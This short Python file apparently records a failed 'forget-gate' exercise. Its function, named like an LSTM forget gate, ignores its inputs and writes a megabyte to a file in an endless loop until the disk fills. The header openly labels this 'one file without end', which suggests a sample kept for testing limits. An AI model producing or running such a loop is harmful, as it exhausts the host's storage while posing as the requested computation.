# ruff: noqa
# what: one file without end
# exercise: forget-gate
# status: failed
# diagnosis: none

# %%
def forget_gate(x, h_prev, W_f, U_f, b_f):
    with open("file", "wb") as file:
        while True:
            file.write(b"x" * 1_000_000)
